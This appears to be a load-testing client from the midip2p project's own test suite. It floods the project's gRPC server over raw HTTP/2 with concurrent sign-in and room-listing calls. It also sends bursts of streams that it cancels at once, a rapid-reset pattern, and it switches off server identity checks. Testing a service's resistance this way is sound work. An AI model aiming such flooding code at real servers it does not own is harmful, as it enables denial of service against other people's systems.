// One process that asks more than it may, as hard as it can: node attacker.js, with the attack as the first line of its
// standard input. It speaks HTTP/2 by itself, because a client library would hold back what the server does not want.
import { readFileSync } from 'node:fs';
import { type ClientHttp2Session, type ClientHttp2Stream, connect, constants } from 'node:http2';
import { connect as connectTcp } from 'node:net';
import { createInterface } from 'node:readline';
import { connect as connectTls } from 'node:tls';
import { ListRoomsRequest, SignInRequest } from '@midip2p/proto';
import type { Target } from './target';

/** What it is to do. */
export interface Attack {
  target: Target;
  /** `listRooms` is called with the token, `signIn` with any name. */
  call: 'listRooms' | 'signIn';
  token: string;
  /** How many calls are under way at any time, and over how many connections. */
  inFlight: number;
  connections: number;
  /** How many more calls are begun at the start and cancelled at once. */
  burst: number;
  /** The address from which it calls. */
  localAddress: string;
}

/** The outcomes of its calls so far. */
export interface Outcomes {
  begun: number;
  answered: number;
  refused: number;
  /** Calls that ended without any answer of the server. */
  cut: number;
}

const PATHS = { listRooms: 'RoomService/ListRooms', signIn: 'AuthService/SignIn' };
const TELL_MS = 100;
const AGAIN_MS = 50;

createInterface({ input: process.stdin }).once('line', (line) => attack(JSON.parse(line) as Attack));

function attack({ target, call, token, inFlight, connections, burst, localAddress }: Attack): void {
  const { host, port, certificateFile } = target;
  const outcomes: Outcomes = { begun: 0, answered: 0, refused: 0, cut: 0 };
  const ca = readFileSync(certificateFile, 'utf8').replace(/-----BEGIN PRIVATE KEY[^]*?END PRIVATE KEY-----\n/, '');
  const head = {
    ...{ ':method': 'POST', ':path': `/midip2p.v1.${PATHS[call]}`, 'content-type': 'application/grpc', te: 'trailers' },
    ...(token !== '' && { authorization: `Bearer ${token}` }),
  };
  let guest = 0;
  const body = (): Buffer => {
    guest += 1;
    const password = 'a password';
    const message =
      call === 'listRooms'
        ? ListRoomsRequest.encode({ page: undefined }).finish()
        : SignInRequest.encode({ name: `guest${guest}`, password, device: 'd', deviceToken: undefined }).finish();
    const prefix = Buffer.alloc(5);
    prefix.writeUInt32BE(message.length, 1);
    return Buffer.concat([prefix, message]);
  };
  const begin = (session: ClientHttp2Session, over: () => void): ClientHttp2Stream => {
    outcomes.begun += 1;
    const stream = session.request(head);
    let status: string | undefined;
    const seen = (headers: Record<string, unknown>) => (status = String(headers['grpc-status'] ?? status));
    stream
      .on('response', seen)
      .on('trailers', seen)
      .on('error', () => undefined);
    stream.once('close', () => {
      outcomes[status === '0' ? 'answered' : status === undefined ? 'cut' : 'refused'] += 1;
      over();
    });
    stream.resume().end(body());
    return stream;
  };
  const keepUp = (share: number, wanted: number) => {
    const createConnection = () =>
      connectTls({
        socket: connectTcp({ host, port, localAddress }),
        ca,
        ALPNProtocols: ['h2'],
        checkServerIdentity: () => undefined,
      });
    const session = connect(`https://${host}:${port}`, { createConnection });
    session.on('error', () => undefined);
    session.once('close', () => setTimeout(() => keepUp(share, 0), AGAIN_MS));
    const more = () => {
      if (!session.destroyed && !session.closed) begin(session, more);
    };
    session.once('remoteSettings', () => {
      for (let n = 0; n < share; n += 1) more();
      for (let n = 0; n < wanted; n += 1) {
        const stream = begin(session, () => undefined);
        setImmediate(() => stream.close(constants.NGHTTP2_CANCEL));
      }
    });
  };
  for (let n = 0; n < connections; n += 1) keepUp(Math.ceil(inFlight / connections), Math.ceil(burst / connections));
  setInterval(() => process.stdout.write(`${JSON.stringify(outcomes)}\n`), TELL_MS);
}
